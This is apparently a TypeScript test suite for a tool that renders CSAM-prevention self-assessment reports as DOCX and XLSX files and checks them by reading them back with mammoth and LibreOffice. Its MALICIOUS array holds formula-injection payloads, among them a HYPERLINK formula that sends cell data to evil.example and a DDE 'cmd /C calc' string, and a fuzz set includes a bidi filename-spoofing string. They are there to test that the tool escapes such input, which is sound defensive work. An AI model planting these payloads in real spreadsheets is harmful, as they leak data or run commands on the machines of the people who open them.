import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import mammoth from 'mammoth';

import { actionsByHorizon, attestationHeadline, evidenceRegister, exposureCounts, isOverdue, topRisks } from '../derive.js';
import { BAND_LABEL, formatDate, round } from '../format.js';
import type { ReportModel } from '../model.js';
import { buildSampleReportModel, buildStressReportModel } from '../testing/report-model.builder.js';
import { BOARD_PACK_SECTIONS, boardPackSections, renderBoardPackDocx } from './board-pack-docx.js';
import { REGISTER_SHEETS, renderRegistersXlsx } from './registers-xlsx.js';
import { escapeXml, type WorkingCopySource, WorkingCopySourceError, xmlSafe } from './working-copy.js';

// The office copies are read back by tools that did not write them: mammoth and LibreOffice for the
// DOCX, LibreOffice's CSV export for the XLSX, and the raw XML for what only the XML can say (header
// rows marked to repeat, core properties, no formula cells). LibreOffice is started twice in all,
// each call converting every file of its kind, because each start costs seconds.

const PDF_SHA = 'c0ffee'.repeat(10) + 'beef';
const sourceOf = (model: ReportModel): WorkingCopySource => ({ reportId: model.reportId, pdfSha256: PDF_SHA, issuedAt: model.issuedAt });

function findSoffice(): string | null {
  for (const bin of ['soffice', 'libreoffice']) {
    if (spawnSync(bin, ['--version'], { encoding: 'utf8' }).status === 0) return bin;
  }
  return null;
}
const SOFFICE = findSoffice();
if (SOFFICE === null) {
  if (process.env['CI'] === 'true')
    throw new Error('LibreOffice (soffice) is not installed; CI must install libreoffice-writer and libreoffice-calc (.ci/run).');
  console.warn(
    '\n\n*** LibreOffice (soffice) is not installed: the office read-back checks are SKIPPED locally. Install libreoffice-writer and libreoffice-calc. ***\n\n',
  );
}
const withLibreOffice = SOFFICE === null ? it.skip : it;

/** Text a spreadsheet user might paste, or an attacker type, to make a cell run. */
const MALICIOUS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];
/** Characters XML 1.0 cannot hold, bidi controls and very long text. */
const FUZZ = {
  nul: 'before\u0000after',
  lone: 'high \uD800 low \uDC00 pair 😀',
  bidi: 'invoice\u202Efdp.exe \u2066isolate\u2069 \u200F',
  controls: 'bell\u0007 vertical\u000B formfeed\u000C del\u007F',
  long: 'x'.repeat(40000),
};

function maliciousModel(): ReportModel {
  const model = buildSampleReportModel();
  MALICIOUS.forEach((text, i) => {
    const action = model.actions[i]!;
    action.title = text;
    action.owner = text;
  });
  model.questions[0]!.text = MALICIOUS[0]!;
  model.questions[0]!.comment = MALICIOUS[3]!;
  return model;
}

function fuzzModel(): ReportModel {
  const model = buildSampleReportModel();
  model.organisation.name = `Org ${FUZZ.nul} ${FUZZ.lone} ${FUZZ.bidi}`;
  model.confidentiality = `Confidential ${FUZZ.controls}`;
  model.summary.narrative = [FUZZ.long];
  model.summary.boardDecisions = [FUZZ.nul, FUZZ.lone, FUZZ.bidi, FUZZ.long];
  const [a0, a1, a2] = model.actions;
  a0!.title = FUZZ.nul;
  a1!.title = FUZZ.lone;
  a2!.title = FUZZ.bidi;
  a0!.owner = FUZZ.long;
  model.questions[0]!.comment = FUZZ.long + FUZZ.long;
  model.questions[1]!.text = FUZZ.controls;
  model.exposure[0]!.reason = FUZZ.lone;
  return model;
}

/** RFC 4180 reader for LibreOffice's CSV (quotes doubled, fields may hold line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const ch = s[i]!;
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && s[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

function zipText(zip: Buffer, path: string): string {
  const entry = unzipSync(new Uint8Array(zip))[path];
  if (!entry) throw new Error(`${path} is missing from the zip`);
  return strFromU8(entry);
}

const sample = buildSampleReportModel();
const draft = buildSampleReportModel({ signed: false });
const stress = buildStressReportModel();
const malicious = maliciousModel();
const fuzz = fuzzModel();

const docx: Record<string, Buffer> = {};
const xlsx: Record<string, Buffer> = {};
/** LibreOffice's plain text of each DOCX, and its CSV of each XLSX sheet, by file then sheet name. */
const loText: Record<string, string> = {};
const loCsv: Record<string, Record<string, string[][]>> = {};
let dir: string;

beforeAll(async () => {
  const models = { sample, draft, stress, malicious, fuzz };
  for (const [name, model] of Object.entries(models)) {
    [docx[name], xlsx[name]] = await Promise.all([
      renderBoardPackDocx(model, sourceOf(model)),
      renderRegistersXlsx(model, sourceOf(model)),
    ]);
  }
  if (SOFFICE === null) return;
  dir = mkdtempSync(join(tmpdir(), 'hoh-office-'));
  const out = join(dir, 'out');
  mkdirSync(out);
  for (const [name, bytes] of Object.entries(docx)) writeFileSync(join(dir, `${name}.docx`), bytes);
  for (const [name, bytes] of Object.entries(xlsx)) writeFileSync(join(dir, `${name}.xlsx`), bytes);
  const convert = (filter: string, ext: string): void => {
    const files = Object.keys(ext === 'docx' ? docx : xlsx).map((n) => join(dir, `${n}.${ext}`));
    const result = spawnSync(
      SOFFICE,
      [
        `-env:UserInstallation=file://${join(dir, 'profile')}`,
        '--headless',
        '--norestore',
        '--convert-to',
        filter,
        '--outdir',
        out,
        ...files,
      ],
      { encoding: 'utf8', timeout: 120_000 },
    );
    if (result.status !== 0) throw new Error(`soffice --convert-to ${filter} failed (${result.status}): ${result.stderr}`);
  };
  convert('txt:Text (encoded):UTF8', 'docx');
  // Every sheet (last token -1), UTF-8, formulas exported as formulas so a formula cell would show.
  convert('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,true,false,-1', 'xlsx');
  for (const file of readdirSync(out)) {
    const text = readFileSync(join(out, file), 'utf8');
    const txt = /^(\w+)\.txt$/.exec(file);
    if (txt) loText[txt[1]!] = text;
    const csv = /^(\w+)-(.+)\.csv$/.exec(file);
    if (csv) (loCsv[csv[1]!] ??= {})[csv[2]!] = parseCsv(text);
  }
}, 180_000);

afterAll(() => {
  if (dir && existsSync(dir)) rmSync(dir, { recursive: true, force: true });
});

// mammoth reads each document once; several tests look at the same text.
const textCache = new Map<string, Promise<string>>();
const mammothText = (name: string): Promise<string> => {
  if (!textCache.has(name))
    textCache.set(
      name,
      mammoth.extractRawText({ buffer: docx[name]! }).then((r) => r.value),
    );
  return textCache.get(name)!;
};
const mammothHtml = async (name: string): Promise<string> => (await mammoth.convertToHtml({ buffer: docx[name]! })).value;

function expectInOrder(text: string, parts: readonly string[]): void {
  let last = -1;
  for (const part of parts) {
    const at = text.indexOf(part, last + 1);
    expect({ part, found: at >= 0 }).toEqual({ part, found: true });
    last = at;
  }
}

describe('renderBoardPackDocx: read back by mammoth', () => {
  it('has real headings, in the PDF order: board summary, heatmap, exceptions, critical controls, concerns, trend, then appendices A–G with integrity last', async () => {
    const html = await mammothHtml('sample');
    const h1 = [...html.matchAll(/<h1>(.*?)<\/h1>/g)].map((m) => m[1]);
    expect(h1).toEqual(boardPackSections(sample));
    expect(h1[2]).toBe(BOARD_PACK_SECTIONS.exceptionsSigned);
    const h2 = [...html.matchAll(/<h2>(.*?)<\/h2>/g)].map((m) => m[1]!);
    expectInOrder(h2.join('\n'), [
      attestationHeadline(sample).title,
      BOARD_PACK_SECTIONS.decisions,
      BOARD_PACK_SECTIONS.risks,
      BOARD_PACK_SECTIONS.narrative,
      BOARD_PACK_SECTIONS.why,
    ]);
    expect(html).toContain('<table>');
    const draftHtml = await mammothHtml('draft');
    expect([...draftHtml.matchAll(/<h1>(.*?)<\/h1>/g)].map((m) => m[1])).toEqual(boardPackSections(draft));
  });

  it('prints the model’s numbers: the score rounded as the PDF prints it, exception counts, top risks and every action number', async () => {
    const text = await mammothText('sample');
    expect(text).toContain(`${round(sample.summary.score)} / 100`);
    const headline = attestationHeadline(sample);
    expect(headline.status).toBe('qualified');
    expect(text).toContain(headline.title);
    expect(text).toContain(headline.byKind.map((k) => `${k.count} × ${k.label}`).join(' · '));
    expect(headline.byKind.reduce((n, k) => n + k.count, 0)).toBe(sample.attestation.exceptions.length);
    const exceptions = text.slice(text.indexOf(BOARD_PACK_SECTIONS.exceptionsSigned), text.indexOf(BOARD_PACK_SECTIONS.critical));
    for (const e of sample.attestation.exceptions) expect(exceptions).toContain(e.message);
    const page1 = text.slice(0, text.indexOf(BOARD_PACK_SECTIONS.heatmap));
    for (const r of topRisks(sample, 5))
      expect(page1).toMatch(new RegExp(`${r.number}\\s+[^\\n]+\\s+${r.owner ?? 'Unassigned'}\\s+${formatDate(r.dueDate)}`));
    const plan = text.slice(text.indexOf(BOARD_PACK_SECTIONS.remediation));
    const numbers = actionsByHorizon(sample).flatMap((h) => h.actions.map((a) => a.number));
    expect(numbers).toHaveLength(sample.actions.length);
    expectInOrder(plan, numbers);
    const heatmap = text.slice(text.indexOf(BOARD_PACK_SECTIONS.heatmap), text.indexOf(BOARD_PACK_SECTIONS.exposure));
    for (const d of sample.domains) {
      expect(heatmap).toMatch(
        new RegExp(`${d.domainId} · [^\\n]+\\s+${d.score === null ? 'n/a' : `${round(d.score)} ${BAND_LABEL[d.band!]}`}\\s`),
      );
    }
    for (const f of sample.figures.slice(0, 3)) expect(page1).toContain(f.statement);
  });

  it('marks itself as an unsigned working copy of the signed PDF (id, SHA-256, issue date) on page 1 and in the page header', async () => {
    const text = await mammothText('sample');
    const marking = `Unsigned working copy of signed PDF report ${sample.reportId}, SHA-256 ${PDF_SHA}, issued 30 Jun 2026`;
    expect(text.slice(0, text.indexOf(BOARD_PACK_SECTIONS.summary))).toContain(marking);
    const document = zipText(docx['sample']!, 'word/document.xml');
    const headerRef = /<w:headerReference w:type="default" r:id="(rId\d+)"\/>/.exec(document);
    expect(headerRef).not.toBeNull();
    const rels = zipText(docx['sample']!, 'word/_rels/document.xml.rels');
    const target =
      new RegExp(`Id="${headerRef![1]}"[^>]*Target="([^"]+)"`).exec(rels) ??
      new RegExp(`Target="([^"]+)"[^>]*Id="${headerRef![1]}"`).exec(rels);
    expect(zipText(docx['sample']!, `word/${target![1]}`)).toContain(marking);
  });

  it('says "not ready to attest" for an unsigned assessment', async () => {
    const text = await mammothText('draft');
    expect(text).toContain(attestationHeadline(draft).title);
    expect(text).toContain(BOARD_PACK_SECTIONS.exceptionsNotSigned);
    expect(text).toContain('Not signed.');
  });
});

describe('renderBoardPackDocx: the file itself', () => {
  it('marks every table’s first row as a header row that repeats on each page, and no row splits across pages', () => {
    const document = zipText(docx['sample']!, 'word/document.xml');
    const tables = document.match(/<w:tbl>/g)?.length ?? 0;
    expect(tables).toBeGreaterThan(10);
    const firstRows = [...document.matchAll(/<w:tbl>.*?<w:tr>(.*?)<\/w:tr>/gs)].map((m) => m[1]!);
    expect(firstRows).toHaveLength(tables);
    for (const row of firstRows) expect(row).toMatch(/<w:tblHeader\/>/);
    const rows = document.match(/<w:tr>/g)?.length ?? 0;
    expect(document.match(/<w:cantSplit\/>/g)?.length).toBe(rows);
  });

  it('sets title, language, creator and dates from the issue time in the core properties, and the same model gives the same bytes', async () => {
    const core = zipText(docx['sample']!, 'docProps/core.xml');
    expect(core).toContain(`<dc:title>Working copy — CSAM prevention self-assessment — ${sample.organisation.name}</dc:title>`);
    expect(core).toContain('<dc:language>en-GB</dc:language>');
    expect(core).toContain('<dc:creator>Hand on Heart</dc:creator>');
    expect(core).toContain(
      `<dcterms:created xsi:type="dcterms:W3CDTF">${new Date(sample.issuedAt).toISOString().replace('.000', '')}</dcterms:created>`,
    );
    expect(zipText(docx['sample']!, 'word/styles.xml')).toContain('w:val="en-GB"');
    expect((await renderBoardPackDocx(sample, sourceOf(sample))).equals(docx['sample']!)).toBe(true);
    expect((await renderRegistersXlsx(sample, sourceOf(sample))).equals(xlsx['sample']!)).toBe(true);
  });

  it('refuses a source that does not name the model’s report or a SHA-256, saying what to pass', async () => {
    await expect(renderBoardPackDocx(sample, { ...sourceOf(sample), pdfSha256: 'abc' })).rejects.toThrow(WorkingCopySourceError);
    await expect(renderRegistersXlsx(sample, { ...sourceOf(sample), reportId: 'other' })).rejects.toThrow(/stored model/);
  });

  it('writes text XML cannot hold (NUL, lone surrogates, other C0 controls) as U+FFFD, keeps bidi controls and long text, and still opens', async () => {
    const text = await mammothText('fuzz');
    expect(text).toContain('before\uFFFDafter');
    expect(text).toContain('high \uFFFD low \uFFFD pair 😀');
    expect(text).toContain(FUZZ.bidi);
    expect(text).toContain(FUZZ.long);
    for (const bytes of [docx['fuzz']!, xlsx['fuzz']!]) {
      for (const [path, data] of Object.entries(unzipSync(new Uint8Array(bytes)))) {
        if (!/\.(xml|rels)$/.test(path)) continue;
        // eslint-disable-next-line no-control-regex -- the characters XML 1.0 forbids
        expect({ path, bad: /[\u0000-\u0008\u000B\u000C\u000E-\u001F]/.test(strFromU8(data)) }).toEqual({ path, bad: false });
      }
    }
  });

  it('xmlSafe leaves only characters XML 1.0 allows, changing nothing else (property)', () => {
    /* eslint-disable no-control-regex -- the characters XML 1.0 forbids */
    const forbidden =
      /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
    /* eslint-enable no-control-regex */
    fc.assert(
      // UTF-16 code units from the edges that matter: C0 controls, printable ASCII with the XML
      // specials, both surrogate halves and the noncharacters U+FFFE/U+FFFF.
      fc.property(
        fc
          .array(
            fc.oneof(fc.integer({ min: 0, max: 0x7e }), fc.integer({ min: 0xd7f0, max: 0xe010 }), fc.integer({ min: 0xfff0, max: 0xffff })),
            { maxLength: 60 },
          )
          .map((units) => String.fromCharCode(...units)),
        (s) => {
          const safe = xmlSafe(s);
          const unchangedWhenClean = forbidden.test(s) || safe === s;
          return (
            safe.length === s.length && !forbidden.test(safe) && unchangedWhenClean && !/[<>"]|&(?!amp;|lt;|gt;|quot;)/.test(escapeXml(s))
          );
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('renderBoardPackDocx: read back by LibreOffice', () => {
  withLibreOffice('opens every copy, the stress and fuzz models included, and reads the sections in the PDF order', () => {
    for (const name of ['sample', 'draft', 'stress', 'malicious', 'fuzz']) {
      expect({ name, converted: typeof loText[name] === 'string' && loText[name].length > 1000 }).toEqual({ name, converted: true });
    }
    const text = loText['sample']!;
    expectInOrder(text, [`Unsigned working copy of signed PDF report ${sample.reportId}`, ...boardPackSections(sample)]);
    expect(text).toContain(`${round(sample.summary.score)} / 100`);
    for (const a of sample.actions) expect(text).toContain(a.number);
    expectInOrder(loText['stress']!, boardPackSections(stress));
  });
});

describe('renderRegistersXlsx: read back by LibreOffice as CSV', () => {
  const sheets = (name: string): Record<string, string[][]> => loCsv[name] ?? {};

  withLibreOffice(
    'has the About, Answers, Evidence register, Action plan and Exposure map sheets; About names the signed PDF and its hash',
    () => {
      expect(Object.keys(sheets('sample')).sort()).toEqual([...REGISTER_SHEETS].sort());
      const about = Object.fromEntries(
        sheets('sample')
          ['About']!.slice(1)
          .map((r) => [r[0], r[1]]),
      );
      expect(about['Signed PDF report ID']).toBe(sample.reportId);
      expect(about['Signed PDF SHA-256']).toBe(PDF_SHA);
      expect(about['Organisation']).toBe(sample.organisation.name);
      expect(about['Bank version']).toBe(sample.bank.version);
      expect(about['Results SHA-256']).toBe(sample.integrity.resultsSha256);
      // A real date-time, which LibreOffice writes as ISO 8601.
      expect(about['Issued (UTC)']).toMatch(/^2026-06-30[ T]12:00(:00)?$/);
    },
  );

  withLibreOffice('Answers: one row per question, levels, gap and evidence count as numbers, references "regime id" joined', () => {
    const [header, ...rows] = sheets('sample')['Answers']!;
    const col = (h: string): number => header!.indexOf(h);
    expect(rows).toHaveLength(sample.questions.length);
    sample.questions.forEach((q, i) => {
      const r = rows[i]!;
      expect(r[col('Question ID')]).toBe(q.questionId);
      expect(r[col('Claimed level')]).toBe(q.claimed === null ? '' : String(q.claimed));
      expect(r[col('Effective level')]).toBe(q.included ? String(q.effectiveLevel ?? 0) : '');
      expect(Number(r[col('Target level')])).toBe(q.target);
      expect(Number(r[col('Gap')])).toBe(q.gap);
      expect(Number(r[col('Evidence count')])).toBe(q.evidence.length);
      // What applies (voluntary marked) in one column; what is cited but does not apply, with why, in the next.
      const shown = q.references.filter((ref) => ref.state === 'applies' || ref.state === 'voluntary');
      expect(r[col('References')]).toBe(shown.map((ref) => `${ref.regime} ${ref.id}${ref.state === 'voluntary' ? ' (voluntary)' : ''}`).join('; '));
      const others = q.references.filter((ref) => ref.state !== 'applies' && ref.state !== 'voluntary');
      const notApplying = r[col('References not applying to you')] ?? '';
      expect(notApplying.split('; ').filter(Boolean)).toHaveLength(others.length);
      for (const o of others) expect(notApplying).toContain(o.reason);
      expect(r[col('Reviewed by another')]).toBe(q.reviewedByOther ? 'Yes' : 'No');
    });
  });

  withLibreOffice(
    'Action plan: number first, in the PDF plan’s order, due dates as dates, uplift as numbers, overdue as of the issue date',
    () => {
      const [header, ...rows] = sheets('sample')['Action plan']!;
      expect(header![0]).toBe('Number');
      const ordered = actionsByHorizon(sample).flatMap((h) => h.actions);
      expect(rows.map((r) => r[0])).toEqual(ordered.map((a) => a.number));
      ordered.forEach((a, i) => {
        const r = rows[i]!;
        expect(r[header!.indexOf('Due')]).toBe(a.dueDate ?? '');
        expect(Number(r[header!.indexOf('Predicted uplift (points)')])).toBeCloseTo(a.predictedUpliftPoints, 9);
        expect(r[header!.indexOf('Overdue')]).toBe(isOverdue(a, sample.issuedAt) ? 'Yes' : 'No');
      });
    },
  );

  withLibreOffice('Evidence register and Exposure map: every item once, counts equal the PDF’s', () => {
    const [, ...evidence] = sheets('sample')['Evidence register']!;
    expect(evidence.map((r) => r[1])).toEqual(evidenceRegister(sample).map((e) => e.evidence.id));
    expect(evidence.map((r) => r[0])).toEqual(evidenceRegister(sample).map((_, i) => `E${i + 1}`));
    const [header, ...exposure] = sheets('sample')['Exposure map']!;
    expect(exposure).toHaveLength(sample.exposure.length);
    for (const e of sample.exposure) {
      const row = exposure.find((r) => r[header!.indexOf('Measure ID')] === e.id && r[header!.indexOf('Measure')] === e.title);
      const c = exposureCounts(e, sample.questions);
      expect(row?.slice(-4).map(Number)).toEqual([c.implemented, c.partial, c.notAddressed, c.notApplicable]);
    }
  });

  withLibreOffice(
    'text that would start a formula (=HYPERLINK, +, -, @, tab, CR) stays text: prefixed with an apostrophe, no formula cell',
    () => {
      const [header, ...rows] = sheets('malicious')['Action plan']!;
      const titles = rows.map((r) => r[header!.indexOf('Title')]);
      // LibreOffice writes a line break inside a cell as LF, whichever it was.
      for (const text of MALICIOUS) expect(titles).toContain(`'${text.replace(/\r/g, '\n')}`);
      const answers = sheets('malicious')['Answers']!;
      expect(answers[1]![answers[0]!.indexOf('Question')]).toBe(`'${MALICIOUS[0]}`);
      for (const [path, data] of Object.entries(unzipSync(new Uint8Array(xlsx['malicious']!)))) {
        if (path.startsWith('xl/worksheets/')) expect({ path, formula: /<f[ >]/.test(strFromU8(data)) }).toEqual({ path, formula: false });
      }
    },
  );

  withLibreOffice('opens the stress and fuzz workbooks; a cell longer than Excel’s 32,767 characters is cut, NUL becomes U+FFFD', () => {
    expect(sheets('stress')['Action plan']).toHaveLength(stress.actions.length + 1);
    const [header, ...answers] = sheets('fuzz')['Answers']!;
    const comment = answers[0]![header!.indexOf('Comment')]!;
    expect(comment).toHaveLength(32767);
    expect(comment.endsWith('…')).toBe(true);
    const titles = sheets('fuzz')['Action plan']!.map((r) => r[1]);
    expect(titles).toContain('before\uFFFDafter');
    expect(titles).toContain(FUZZ.bidi);
  });
});
